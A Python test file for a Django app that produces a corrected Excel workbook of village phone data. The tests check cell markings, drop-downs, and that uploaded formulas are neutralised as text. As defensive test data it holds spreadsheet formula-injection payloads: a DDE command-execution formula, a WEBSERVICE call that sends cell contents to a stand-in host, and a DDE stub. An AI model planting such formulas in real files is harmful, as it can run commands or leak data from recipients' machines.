"""The workbook that goes back: what it says, what it keeps, and that nothing in it runs."""

import datetime
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill

from core.models import ImportJob, Village
from core.sheets.balikan import balikan_name, write_balikan
from core.sheets.balikan_own import put
from core.sheets.balikan_places import COMMENT_MARK, FILLS, HEADERS
from core.sheets.rows import SKIP
from tests import phone_sheets
from tests.factories import make_cooperative
from tests.phone_sheets import HEADER, states, upload, workbook

OWN = list(HEADERS.values())
EVIL = '=cmd|"/c calc"!A1'
ROWS = [
    ["Data telepon KDKMP"],
    HEADER,
    [1, "Alfa", "Alfa Kecamatan 1", "Alfa Desa 11", "081234567890", "3 November 2025"],
    [2, "Alfa", "Alfa Kecamatan 1", "Alfa Desa 12", EVIL, None],
    [3, "Alfa", "Alfa Kecamatan 1", "Alfa Desa 1", "081234567892", None],
    [4, "Alfa", "Alfa Kecamatan 2", "Alfa Desa 21", "081234567893 / 081234567894", "03/11/2025"],
    [5, "Bravo", "Bravo Kecamatan 1", "Bravo Desa 11", "081234567895", None],
]


@pytest.fixture(autouse=True)
def _files(settings, tmp_path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def phones():
    with phone_sheets.registered() as kind:
        yield kind


@pytest.fixture
def officer(cast, phones):
    for code in ("61.01.01.2002", "61.01.01.2003", "61.01.02.2001"):
        make_cooperative(Village.objects.get(pk=code))
    return cast["dinas_a"]


def opened(job: ImportJob, **named):
    return openpyxl.load_workbook(write_balikan(job), **named)


def column_at(sheet, header: str, row: int = 2) -> int:
    found = [cell.column for cell in sheet[row] if cell.value == header]
    assert len(found) == 1, (header, [cell.value for cell in sheet[row]])
    return found[0]


def offers_at(book, sheet, row: int, header: str) -> list[str]:
    """What the drop-down of a cell shows."""
    letter = openpyxl.utils.get_column_letter(column_at(sheet, header))
    for rule in sheet.data_validations.dataValidation:
        if f"{letter}{row}" in rule.sqref:
            name, cells = rule.formula1.rsplit("!", 1)
            words = book[name.strip("'=")][cells.replace("$", "")]
            words = words[0] if isinstance(words, tuple) else (words,)
            return [cell.value for cell in words]
    return []


def no_formulas(book) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


@pytest.fixture(params=["xlsx", "csv"])
def job(request, officer) -> ImportJob:
    """The same rows as xlsx and as csv: both kinds of workbook say the same."""
    if request.param == "xlsx":
        return upload(workbook(ROWS), officer)
    lines = "\n".join(";".join(str("" if c is None else c) for c in row) for row in ROWS)
    return upload(lines.encode(), officer, "data.csv")


def test_every_bad_cell_says_what_to_do(job):
    assert states(job) == {3: "changed", 4: "wrong", 5: "doubtful", 6: "doubtful", 7: "refused"}
    sheet = opened(job)["Data" if job.filename.endswith("xlsx") else opened(job).sheetnames[0]]
    fills = {
        cell.coordinate: cell.fill.fgColor.rgb
        for row in sheet.iter_rows()
        for cell in row
        if cell.fill.fill_type
    }
    wrong, doubtful = FILLS["wrong"], FILLS["doubtful"]
    assert {at: rgb[2:] for at, rgb in fills.items()} == {
        "E4": wrong[2:],
        "D5": doubtful[2:],
        "E6": doubtful[2:],
        "D7": wrong[2:],
    }
    assert "nomor telepon" in sheet["E4"].comment.text
    assert "Saran kode" in sheet["D5"].comment.text
    assert "Pilih" in sheet["E6"].comment.text
    assert "di luar wilayah" in sheet["D7"].comment.text
    assert sheet["E3"].comment is None


def test_our_columns_stand_at_the_right_and_offer_answers(job):
    book = opened(job)
    sheet = book[book.sheetnames[0]]
    assert [cell.value for cell in sheet[2]][-4:] == OWN
    assert [cell.value for cell in sheet[2]][:6] == HEADER
    results = [sheet.cell(row, column_at(sheet, OWN[0])).value for row in range(3, 8)]
    starts = ("Siap", "Salah", "Meragukan", "Meragukan", "Ditolak")
    for text, start in zip(results, starts, strict=True):
        assert text.startswith(start)
    villages = offers_at(book, sheet, 5, "Saran kode")
    assert len(villages) == 3
    assert villages[0].startswith("61.01.01.2001 – Desa Alfa Desa 11, Kec.")
    assert offers_at(book, sheet, 6, "Jawaban") == [
        "081234567893",
        "081234567894",
        "Jangan pakai isian ini",
        SKIP,
    ]
    assert offers_at(book, sheet, 4, "Jawaban") == [SKIP]
    assert offers_at(book, sheet, 3, "Jawaban") == []
    assert [one.title for one in book.worksheets if one.sheet_state == "hidden"] == ["Pilihan"]


def test_the_key_is_there_and_hidden(job):
    book = opened(job)
    sheet = book[book.sheetnames[0]]
    at = column_at(sheet, "Kunci baris (jangan diubah)")
    assert sheet.column_dimensions[openpyxl.utils.get_column_letter(at)].hidden
    for row in job.rows.all():
        assert sheet.cell(row.number, at).value == f"{job.pk}-{row.number}-{row.key}"


def test_nothing_in_it_is_a_formula(job):
    no_formulas(opened(job))
    with zipfile.ZipFile(write_balikan(job)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name)
    assert EVIL in [cell.value for cell in opened(job).worksheets[0]["E"]]


@pytest.mark.parametrize("text", [EVIL, "=1+1", "+1", "-1", "@SUM(A1)"])
def test_what_we_write_is_text_whatever_it_says(text):
    cell = put(openpyxl.Workbook().active, 1, 1, text)
    assert (cell.value, cell.data_type) == (text, "s")


def test_it_is_made_only_where_there_are_rows_to_show(job):
    job.stage = ImportJob.Stage.MAPPING
    with pytest.raises(ValidationError, match="belum dapat dibuat"):
        write_balikan(job)
    assert balikan_name(job) == "data - balikan.xlsx"


def dressed(sheet) -> None:
    """What a sender's own sheet may hold."""
    sheet["A1"].fill = PatternFill("solid", fgColor="FF00FF00")
    sheet["E4"].fill = PatternFill("solid", fgColor="FF0000FF")
    sheet["E4"].comment = Comment("Catatan saya", "Budi")
    sheet.column_dimensions["D"].width = 33
    sheet.column_dimensions.group("G", "XFD", hidden=True)
    sheet.merge_cells("A1:F1")
    sheet["F3"].value, sheet["F3"].number_format = datetime.date(2025, 11, 3), "dd/mm/yyyy"
    sheet["C9"].value = "=1+1"
    sheet["D10"].value = '=WEBSERVICE("http://x.example/"&A1)'
    sheet.auto_filter.ref = "A2:F7"
    other = sheet.parent.create_sheet("Lain")
    other["B2"], other["B3"] = "tetap", "=DDE(1)"
    book = sheet.parent
    book.defined_names["Jahat"] = openpyxl.workbook.defined_name.DefinedName(
        "Jahat", attr_text="[1]Lain!$A$1"
    )


def test_the_senders_own_things_stay(officer):
    book = opened(upload(workbook(ROWS, dressed), officer))
    sheet = book["Data"]
    assert sheet["A1"].fill.fgColor.rgb == "FF00FF00"
    assert sheet.column_dimensions["D"].width == 33
    assert "A1:F1" in [str(area) for area in sheet.merged_cells.ranges]
    assert sheet["F3"].value == datetime.datetime(2025, 11, 3)  # noqa: DTZ001
    assert sheet["E4"].comment.text.startswith(f"Catatan saya\n{COMMENT_MARK}")
    assert book["Lain"]["B2"].value == "tetap"
    no_formulas(book)
    assert "Jahat" not in book.defined_names
    at = column_at(sheet, "Jawaban")
    assert not sheet.column_dimensions[openpyxl.utils.get_column_letter(at)].hidden
    letter = openpyxl.utils.get_column_letter(column_at(sheet, OWN[-1]))
    assert sheet.auto_filter.ref == f"A2:{letter}7" or sheet.auto_filter.ref.startswith(
        f"A2:{letter}"
    )


def test_a_second_round_leaves_no_old_marks(officer):
    first = upload(workbook(ROWS, dressed), officer)
    book = openpyxl.load_workbook(write_balikan(first))
    book["Data"]["E4"].value = "081234567891"
    book.save(write_balikan(first))
    second = upload(write_path(first), officer)
    again = opened(second)
    sheet = again["Data"]
    for header in OWN:
        column_at(sheet, header)
    assert again.sheetnames == ["Data", "Lain", "Pilihan"]
    assert sheet["E4"].comment.text == "Catatan saya"
    assert sheet["E4"].fill.fgColor.rgb == "FF0000FF"
    assert sheet["D5"].comment.text.count(COMMENT_MARK) == 1
    assert len(offers_at(again, sheet, 5, "Saran kode")) == 3
    at = column_at(sheet, OWN[-1])
    assert sheet.cell(4, at).value.startswith(f"{second.pk}-4-")


def write_path(job: ImportJob):
    """The balikan as it lies there, after somebody has corrected it."""
    from pathlib import Path

    return Path(job.file.path).parent / "balikan.xlsx"


@pytest.mark.parametrize("area", ["D9:XFD1048576", "A9:XFD9"])
def test_a_merged_area_without_end_is_clipped(officer, area):
    rows = workbook(ROWS, lambda sheet: sheet.merged_cells.add(area))
    book = opened(upload(rows, officer))
    assert [cell.value for cell in book["Data"][2]][-4:] == OWN
    assert not book["Data"].freeze_panes  # the sender's own file, not the plain one


def test_what_openpyxl_can_not_open_goes_back_plain(officer, monkeypatch):
    job = upload(workbook(ROWS), officer)
    monkeypatch.setattr("core.sheets.balikan.SECONDS_ANY", 30)
    source = job.file.path
    with zipfile.ZipFile(source) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/styles.xml"] = b"<broken"
    with zipfile.ZipFile(source, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    book = opened(job)
    sheet = book["Data"]
    assert sheet.freeze_panes == "A3"
    assert [cell.value for cell in sheet[2]][-4:] == OWN
    assert sheet["E4"].comment
